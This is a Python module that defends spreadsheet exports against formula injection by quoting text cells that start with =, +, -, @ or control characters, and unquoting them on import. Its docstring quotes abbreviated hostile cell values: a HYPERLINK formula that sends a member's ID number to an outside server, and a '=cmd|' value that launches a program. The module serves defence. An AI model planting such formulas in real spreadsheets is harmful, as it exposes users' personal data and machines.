"""Spreadsheets exchanged with users: formula-safe cells out.

A text cell starting with = + - @, a tab or a carriage return is read as a formula by Excel and
LibreOffice, and by any tool that re-reads a copy (a CSV saved from the sheet, a paste into another one):
`=HYPERLINK("https://…/?"&I2;"Xem")` sends a member's CCCD to a stranger's server in one click, `=cmd|…`
asks to run a program. Every cell an export writes goes through `safe_cell`: such a text gets a quote in
front and is stored as text, never as a formula. `cell_text` takes the quote off again when a sheet is read,
so an export → import round trip changes nothing (texts that themselves start with a quote get one more).
"""

from openpyxl.cell import WriteOnlyCell

# What makes a spreadsheet (or a CSV reader) take a text for a formula (OWASP, "CSV injection"); and the line
# feed, because a carriage return written to the XML of a sheet is read back as one.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")
QUOTE = "'"


def formula_safe(value):
    """The value to store in a cell: a text that a spreadsheet would evaluate gets a leading quote."""
    if isinstance(value, str) and value.startswith((*FORMULA_STARTS, QUOTE)):
        return QUOTE + value
    return value


def cell_text(value):
    """A cell's value as written before `formula_safe`: one leading quote before = + - @ tab CR or ' is removed."""
    if isinstance(value, str) and value.startswith(QUOTE) and value[1:2] and value[1] in (*FORMULA_STARTS, QUOTE):
        return value[1:]
    return value


def safe_cell(sheet, value) -> WriteOnlyCell:
    """A cell of a write-only sheet; the only way exports write cells (see the module docstring)."""
    cell = WriteOnlyCell(sheet, value=formula_safe(value))
    if isinstance(cell.value, str):
        cell.data_type = "s"  # a text, whatever it looks like: openpyxl would make "=…" a formula
    return cell
